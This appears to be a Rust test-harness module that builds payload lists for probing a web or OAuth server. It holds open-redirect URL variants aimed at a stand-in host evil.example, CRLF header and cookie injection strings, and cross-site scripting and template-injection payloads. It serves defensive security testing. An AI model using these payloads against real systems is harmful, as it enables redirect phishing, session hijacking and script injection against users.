//! What people put into parameters to lead a browser astray, to write headers, or to have a script run.

use crate::world::REDIRECT_URI;

/// Addresses that are, or may be mistaken for, an address of somebody else or a script: as they stand in
/// a query or form, so that what is encoded twice, badly or not at all is among them.
pub(crate) fn addresses() -> Vec<String> {
    let texts = ELSEWHERE.iter().map(|text| (*text).to_owned());
    let nearby = NEARBY.iter().map(|tail| format!("{REDIRECT_URI}{tail}"));
    let long = format!("https://evil.example/{}", "a".repeat(5000));
    let encoded = texts.chain(nearby).chain([long]).map(|text| encode(&text));
    let twice = ["//evil.example", "https://evil.example/", "javascript:alert(1)", REDIRECT_URI];
    let twice = twice.iter().map(|text| encode(&encode(text)));
    encoded.chain(twice).chain(ILL_ENCODED.iter().map(|text| (*text).to_owned())).collect()
}

/// The ones that cost nothing to try everywhere.
pub(crate) fn few_addresses() -> Vec<String> {
    let texts = [
        "//evil.example",
        "/\\evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        "\r\n//evil.example",
    ];
    texts.map(encode).to_vec()
}

/// Texts that would be headers of ours, or a body, where they could end a header: encoded likewise.
pub(crate) fn header_endings() -> Vec<String> {
    let line = "X-Injected: yes";
    let texts = [
        format!("a\r\n{line}"),
        format!("a\n{line}"),
        format!("a\r{line}"),
        format!("\r\n{line}\r\n\r\n<script>pwned()</script>"),
        format!("\r\nSet-Cookie: injected=1\r\n{line}"),
        format!("https://evil.example/\r\n{line}"),
        format!("{REDIRECT_URI}\r\n{line}"),
        // Their lowest bytes are a carriage return and a line feed.
        format!("\u{560d}\u{560a}{line}"),
        format!("a\u{2028}{line}\u{2029}\u{85}{line}"),
        format!("a\0\r\n\0{line}"),
        format!("a\u{b}{line}\u{c}{line}"),
        // What could end a quoted string or a directive.
        "\", error=\"injected\"; injected=\"yes".to_owned(),
        "; script-src 'unsafe-inline' * data:; sandbox, default-src *".to_owned(),
        "x; Domain=evil.example; Path=/; injected=1".to_owned(),
    ];
    let once = texts.iter().map(|text| encode(text));
    let twice = encode(&encode(&format!("a\r\n{line}")));
    let ill =
        ["%0d%0aX-Injected:%20yes", "%E5%98%8A%E5%98%8DX-Injected:yes", "%0", "%c0%8d%c0%8aX-Injected:yes"];
    once.chain([twice]).chain(ill.map(str::to_owned)).collect()
}

/// Texts that are a script wherever they are taken for markup, an attribute, an address or a template.
pub(crate) const SCRIPTS: [&str; 14] = [
    "<script>pwned()</script>",
    "\"><script>pwned()</script>",
    "'><img src=x onerror=pwned()>",
    "\" onmouseover=\"pwned()\" autofocus onfocus=\"pwned()",
    "' onmouseover='pwned()' autofocus onfocus='pwned()",
    "</title><svg onload=pwned()>",
    "</textarea></style></noscript><iframe srcdoc=\"<script>parent.pwned()</script>\">",
    "--><script>pwned()</script><!--",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>pwned</button>",
    "javascript:pwned()",
    "{{ pwned() }}${pwned()}<%= pwned() %>",
    "\u{ff1c}script\u{ff1e}pwned()\u{ff1c}/script\u{ff1e}",
];

/// A text as forms encode it.
pub(crate) fn encode(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

const ELSEWHERE: [&str; 64] = [
    "https://evil.example/",
    "http://evil.example",
    "//evil.example",
    "///evil.example",
    "////evil.example/%2e%2e",
    "/\\evil.example",
    "\\/evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "\t//evil.example",
    " https://evil.example/",
    "\u{a0}https://evil.example/",
    "\u{feff}https://evil.example/",
    "\0https://evil.example/",
    "https:evil.example",
    "https:/evil.example",
    "https:\\\\evil.example",
    "hTTpS://evil.example/",
    "h\tttps://evil.example/",
    "https\r\n://evil.example/",
    "https://\u{fff0}evil.example/",
    "https:\u{ff0f}\u{ff0f}evil.example",
    "\u{ff0f}\u{ff0f}evil.example",
    "\u{2215}\u{2215}evil.example",
    "https://evil\u{3002}example/",
    "https://evil\u{ff0e}example/",
    "https://\u{24d4}vil.example/",
    "https://xn--evil-9za.example/",
    "\u{202e}elpmaxe.live//:sptth",
    "http://127.0.0.1:9@evil.example/callback",
    "http://127.0.0.1:9%40evil.example/callback",
    "http://127.0.0.1:9\\@evil.example/callback",
    "http://127.0.0.1:9#@evil.example/callback",
    "http://evil.example#127.0.0.1:9/callback",
    "http://evil.example\\127.0.0.1:9/callback",
    "http://127.0.0.1:9.evil.example/callback",
    "http://127.0.0.1.evil.example:9/callback",
    "http://localhost.evil.example:9/callback",
    "http://127.0.0.1.:9/callback",
    "http://127.0.0.1:99/callback",
    "http://127.0.0.1:00009/callback",
    "http://127.0.0.1/callback",
    "http://127.1:9/callback",
    "http://0x7f000001:9/callback",
    "http://2130706433:9/callback",
    "http://[::ffff:127.0.0.1]:9/callback",
    "http://localhost:9/callback",
    "HTTP://127.0.0.1:9/callback",
    "https://127.0.0.1:9/callback",
    "http:127.0.0.1:9/callback",
    "http://127.0.0.1:9/Callback",
    "http://127.0.0.1:9//callback",
    "http://127.0.0.1:9/evil/../callback",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " \u{1}javascript:alert(1)",
    "javascript://127.0.0.1:9/callback%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "blob:http://127.0.0.1:9/1",
    "view-source:https://evil.example/",
    "filesystem:https://evil.example/temporary/x",
];

/// What follows the registered address.
const NEARBY: [&str; 16] = [
    "@evil.example",
    ".evil.example",
    "/../../evil",
    "/..;/evil",
    "%2f..%2fevil",
    "\\..\\evil",
    "?next=https://evil.example/",
    "#",
    "#https://evil.example/",
    "/",
    "\0",
    "\t",
    " ",
    "\r\nLocation: https://evil.example/",
    " https://evil.example/",
    "\u{200b}",
];

/// Not texts at all, or badly written ones. The last two repeat the parameter, or bring another along.
const ILL_ENCODED: [&str; 8] = [
    "%c0%af%c0%afevil.example",
    "https://evil.example%c0%ae%c0%ae/",
    "%2",
    "%ff%feh",
    "%u002f%u002fevil.example",
    "%252f%252fevil.example",
    "https%3A%2F%2Fevil.example&redirect_uri=https%3A%2F%2Fevil.example",
    "x;redirect_uri=https://evil.example",
];
